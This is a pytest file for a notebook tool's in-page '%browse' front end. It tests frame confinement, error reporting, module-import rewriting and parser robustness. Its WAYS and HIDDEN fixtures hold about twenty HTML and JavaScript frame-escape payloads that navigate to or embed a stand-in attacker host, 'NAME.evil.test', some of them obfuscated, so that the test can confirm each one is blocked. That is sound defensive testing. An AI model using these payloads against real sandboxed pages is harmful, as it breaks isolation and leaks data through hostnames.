"""The front end of `%browse` by itself: what its pages tell a host name, what it rewrites, what stands below a page."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from nbmicro import App, Response
from nbmicro.notebook.browse.browser import _PARTS, _file
from start import find_browser
from tests.browser.fronted import Front, fronted
from tests.browser.patience import expect

_TO = "http://NAME.evil.test/"
_FRAME = f"<iframe src={_TO}></iframe>"
_MADE = "const f = document.createElement('iframe'); document.body.append(f);"
#: Pages that would tell a host name something, each by another way; those with ``f`` make a frame by a script.
WAYS = {
    "html": f"{_FRAME}<object data={_TO}></object><embed src={_TO}>",
    "noscript": f'<noscript><p title="</noscript>{_FRAME}"></noscript>',
    "svg script": f"<svg><script>&lt;/script>&lt;iframe src={_TO}></script></svg>",
    "src": f"<body><script>{_MADE} f.src = '{_TO}'</script>",
    "srcdoc": f"<body><script>{_MADE} f.srcdoc = '<script>location = `{_TO}`</' + 'script>'</script>",
    "child": f"<body><script>{_MADE} f.contentWindow.location = '{_TO}'</script>",
    "namespace": "<body><script>const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:iframe');"
    f"f.setAttribute('src', '{_TO}'); document.body.append(f)</script>",
    "custom": "<body><script>class X extends HTMLIFrameElement {};"
    "customElements.define('x-f', X, { extends: 'iframe' });"
    f"const f = new X(); f.src = '{_TO}'; document.body.append(f)</script>",
    "document": "<body><script>const made = document.implementation;"
    "const d = made.createDocument('http://www.w3.org/1999/xhtml', 'iframe');"
    f"const f = d.documentElement; f.setAttribute('src', '{_TO}'); document.body.append(f)</script>",
    "xml": '<body><script>const d = new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e "&#60;iframe xmlns='
    f"'http://www.w3.org/1999/xhtml' src='{_TO}'/>\">]><x>&e;</x>`, 'text/xml');"
    "document.body.append(d.documentElement)</script>",
    "innerHTML": f"<body><script>document.body.innerHTML = '{_FRAME}'</script>",
    "tampered": "<body><script>RegExp.prototype.exec = () => null; String.prototype.indexOf = () => -1;"
    f"Array.prototype[Symbol.iterator] = function* () {{}}; document.body.innerHTML = '{_FRAME}'</script>",
    "policy": "<body><script>document.body.innerHTML = trustedTypes.createPolicy('p', { createHTML: x => x })"
    f".createHTML('{_FRAME}')</script>",
    "shadow": "<body><script>document.body.setHTMLUnsafe("
    f"'<p><template shadowrootmode=open>{_FRAME}</template>')</script>",
    "fragment": "<body><script>const range = document.createRange();"
    f"document.body.append(range.createContextualFragment('{_FRAME}'))</script>",
    "written": f"<body><script>document.write('<ifr'); document.write('{_FRAME.removeprefix('<ifr')}')</script>",
    "refresh": "<body><script>const m = document.createElement('meta'); document.head.append(m);"
    f"m.setAttribute('content', '0;url={_TO}'); m.setAttribute('http-equiv', 'refresh')</script>",
    "link": f"<body><script>const a = document.createElement('a'); a.href = '{_TO}'; a.click();"
    "a.dispatchEvent(new MouseEvent('click')); document.body.append(a);"
    "document.addEventListener('click', event => event.stopImmediatePropagation(), true); a.click()</script>",
    "form": f"<body><form action={_TO}><button id=b></button></form><script>"
    "document.addEventListener('submit', event => event.stopImmediatePropagation(), true); b.click()</script>",
    "open": f"<body><script>open('{_TO}', '_self'); document.open('{_TO}', '_self', '')</script>",
    "location": f"<body><script>location = '{_TO}'; top.location.href = '{_TO}'; window['location'] = '{_TO}'</script>",
}
#: The way that is left: no browser lets anybody stand between a script and its own `location`.
HIDDEN = f"<body><script>window['loca' + 'tion'] = '{_TO}'</script>"


def _name(way: str) -> str:
    return f"way-{way.replace(' ', '-').lower()}"


@pytest.fixture(scope="module")
def app() -> App:
    app = App("evil")
    for way, page in {**WAYS, "hidden": HIDDEN}.items():
        text = f"<title>{way}</title>{page.replace('NAME', _name(way))}"
        app.add_url_rule(f"/{_name(way)}", _name(way), lambda text=text: text)

    @app.route("/boom")
    def boom() -> float:
        return 1 / 0

    @app.route("/fine")
    def fine() -> str:
        return "<title>Fine</title>"

    @app.route("/troubled")
    def troubled() -> str:
        return (
            "<title>Troubled</title><link rel=stylesheet href=/missing.css>"
            "<script src=https://cdn.example/swagger-ui-bundle.js></script>"
            "<script>fetch('/boom'); setTimeout(() => nothing.at.all())</script>"
        )

    @app.route("/modules")
    def modules() -> str:
        return (
            '<title>Modules</title><script type=importmap>{"imports": {"one": "/one.js", "lib/": "/lib/"}}</script>'
            "<script type=module src=/left.js></script><script type=module src=/right.js></script><p id=out></p>"
            "<script type=module>import { one } from 'one'; import { two } from 'lib/two.js';"
            "const text = \"import x from '/one.js'\"; const name = '/later.js'; const later = await import(name);"
            "const location = { href: 'mine' };"
            "out.textContent = [one, two, later.default, text, import.meta.url, location.href].join(' | ')</script>"
        )

    scripts = {
        "/one.js": "export const one = 'one'",
        "/lib/two.js": "import { one } from '../one.js'; export const two = one + ' two'",
        "/later.js": "import { one } from 'one'; export default `later ${one}`",
        "/left.js": "import './right.js'",
        "/right.js": "import './left.js'",
    }
    for path, code in scripts.items():
        app.add_url_rule(path, path.replace(".", "-"), lambda code=code: Response(code, mimetype="text/javascript"))
    return app


@pytest.fixture
def front(app: App) -> Iterator[Front]:
    with fronted(app) as front:
        yield front


def _go(page: Page, path: str) -> None:
    address = page.get_by_label("Address")
    address.fill(path)
    address.press("Enter")


def _asked_of_the_network(log: Path) -> set[str]:
    """The hosts below evil.test that are in a net log of Chromium."""
    events = json.loads(log.read_text("utf-8"))["events"]
    words = " ".join(json.dumps(event.get("params", {})) for event in events)
    return {way for way in [*WAYS, "hidden"] if f"{_name(way)}.evil.test" in words}


def test_no_page_tells_anything_in_the_name_of_a_host(front: Front, browser: Browser, tmp_path: Path) -> None:
    """Chromium looks up the host of a frame's address before it refuses it. Its own log says what it looked up."""
    log = tmp_path / "net.json"
    options = [f"--log-net-log={log}", "--host-resolver-rules=MAP *.evil.test 127.0.0.1:9", "--no-sandbox"]
    chromium = browser.browser_type.launch(executable_path=find_browser(), args=options)
    page = chromium.new_page()
    page.goto(f"{front.url}?p=/{_name('html')}")
    for way in WAYS:
        _go(page, f"/{_name(way)}")
        expect(page.locator(".nbmicro-browse-title")).to_have_text(way)
        page.wait_for_timeout(150)  # longer than a refresh of zero seconds takes
    _go(page, f"/{_name('hidden')}")
    notes = page.locator(".nbmicro-browse-notes")
    expect(notes).to_contain_text("tried to leave its frame and was stopped")
    expect(notes).to_contain_text("way-hidden.evil.test; your browser may have looked up that name")
    assert page.url.startswith(front.url)
    chromium.close()
    # The last way is the control, and what docs/browse.md says of it.
    assert _asked_of_the_network(log) <= {"hidden"}
    assert front.asked in ([], ["/favicon.ico"])


def test_what_went_wrong_in_a_page_stands_below_it(front: Front, browser: Browser, pictures: Path) -> None:
    """Requests that failed with the handler's line or the hint, what was blocked, errors of scripts."""
    for colours in ("light", "dark"):
        page = browser.new_page(viewport={"width": 900, "height": 640})
        page.goto(f"{front.url}?{colours}=/troubled")
        console = page.locator(".nbmicro-browse-console")
        expect(console.locator("summary")).to_have_text("4 problems in this page")
        for text in (
            "GET /missing.css → 404 NOT FOUND",
            "https://cdn.example/swagger-ui-bundle.js is on another site, and %browse loads nothing from there.",
            "GET /boom → 500 INTERNAL SERVER ERROR",
            "return 1 / 0",
            "ReferenceError: nothing is not defined",
        ):
            expect(console).to_contain_text(text)
        page.screenshot(path=pictures / f"browse-console-{colours}.png")
        _go(page, "/fine")
        expect(page.locator(".nbmicro-browse-title")).to_have_text("Fine")
        expect(console).to_be_hidden()
        page.close()


def test_modules_find_one_another_by_path_by_name_and_late(front: Front, browser: Browser) -> None:
    """An import map, a module that is asked for by a script, two that import one another, words in strings."""
    page = browser.new_page()
    page.goto(f"{front.url}?p=/modules")
    out = page.frame_locator(".nbmicro-browse-frame").frame_locator("iframe").locator("#out")
    said = "one | one two | later one | import x from '/one.js' | http://localhost/modules | mine"
    expect(out).to_have_text(said)
    page.close()


@pytest.fixture(scope="module")
def rewriter(browser: Browser) -> Iterator[Page]:
    """A page with the functions of the rewriter."""
    page = browser.new_page()
    source = "\n".join(_file(name) for name in _PARTS if name in {"sheets.js", "lexer.js"})
    page.evaluate(
        "source => { globalThis.own = new Function(source + "
        "';return { Tokens, Names, locationsIn, importsIn, addressesIn, spliced }')(); }",
        source,
    )
    yield page
    page.close()


_MARKED = """([text, isModule]) => {
  const tokens = new own.Tokens(text, isModule);
  return own.spliced(text, own.locationsIn(tokens).map(one => ({ ...one, put: '§' })));
}"""


@pytest.mark.parametrize(
    ("script", "marked"),
    [
        ("location.href = '/a'; location = '/b'", "§.href = '/a'; § = '/b'"),
        ("window.location = 1; document.location.hash; self['location'].href", "§ = 1; §.hash; §.href"),
        (
            "a.location.href; x.window.location; ({ location: 1 })",
            "a.location.href; x.window.location; ({ location: 1 })",
        ),
        ("'location.href' + `location.href ${location.href}`", "'location.href' + `location.href ${§.href}`"),
        ("/location.href/.test(location.href) // location.href", "/location.href/.test(§.href) // location.href"),
        ("a / location.href / b", "a / §.href / b"),
        ("function f(location) { location.href } location.href", "function f(location) { location.href } §.href"),
        ("location => location.href; location.href", "location => location.href; §.href"),
        (
            "{ const { location } = props; location.href } location.href",
            "{ const { location } = props; location.href } §.href",
        ),
        ("function f({ a: { location } }) { location.href }", "function f({ a: { location } }) { location.href }"),
        ("for (const location of all) { location.href }", "for (const location of all) { location.href }"),
        ("try {} catch (location) { location.href }", "try {} catch (location) { location.href }"),
        ("class A { location = 1; m() { location.href } }", "class A { location = 1; m() { §.href } }"),
        ("function f() { var self = this; self.location = 1 }", "function f() { var self = this; self.location = 1 }"),
        ("location == 1; x = location", "location == 1; x = location"),
    ],
)
def test_a_script_says_another_name_where_it_means_the_pages_location(rewriter: Page, script: str, marked: str) -> None:
    assert rewriter.evaluate(_MARKED, [script, False]) == marked


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ("import '/a.js'; import b, { c as d } from './b.js'", ["/a.js", "./b.js"]),
        (
            "export * from 'a'; export * as b from 'b'; export { c } from 'c'; export { d }; export default 1",
            ["a", "b", "c"],
        ),
        ("const s = \"import x from '/a.js'\"; `from '/b.js'` // from '/c.js'", []),
        ("import('/a.js'); import(name); o.import('/b.js'); ({ import() {} })", 2),
    ],
)
def test_a_module_is_read_as_code(rewriter: Page, script: str, found: Any) -> None:
    got = rewriter.evaluate("text => own.importsIn(new own.Tokens(text, true))", script)
    assert (len(got["calls"]) if isinstance(found, int) else [one["reference"] for one in got["fixed"]]) == found


_STEPS = """([text, isSheet]) => {
  if (isSheet) return [own.addressesIn(text).length * 4, true];
  const tokens = new own.Tokens(text, true);
  const names = new own.Names(tokens);
  own.locationsIn(tokens);
  own.importsIn(tokens);
  const inOrder = tokens.start.every((start, i) => start <= tokens.end[i] && (!i || tokens.end[i - 1] <= start));
  return [tokens.steps, inOrder && names.looks >= -tokens.length];
}"""
_OPENING = [
    *(
        "url(",
        "url( ",
        "url('",
        '"',
        "/*",
        "\\",
        '\\"',
        "@import ",
        "@import url(",
        "[",
        "(",
        "{",
        "`${",
        "`",
        "/[",
        "/",
    ),
    *(
        "import ",
        "export {",
        "import(",
        "location=",
        "{location:[",
        "let location,",
        "function(location){",
        "location=>",
    ),
    *(
        "var location;{",
        "class{location=",
        "<!--",
        "window.location[",
        "a=>",
        "?.",
        "=",
        "'\n",
        "/a/",
        "import{a}from'b';",
    ),
]


@pytest.mark.parametrize("text", _OPENING)
def test_whatever_a_script_or_a_sheet_opens_without_end_it_is_read_once(rewriter: Page, text: str) -> None:
    """`url(` 20,000 times froze the tab, and the notebook with it."""
    for sheet in (False, True):
        many = text * (200_000 // len(text))
        steps, is_right = rewriter.evaluate(_STEPS, [many, sheet])
        assert is_right
        assert steps <= len(many) + 8
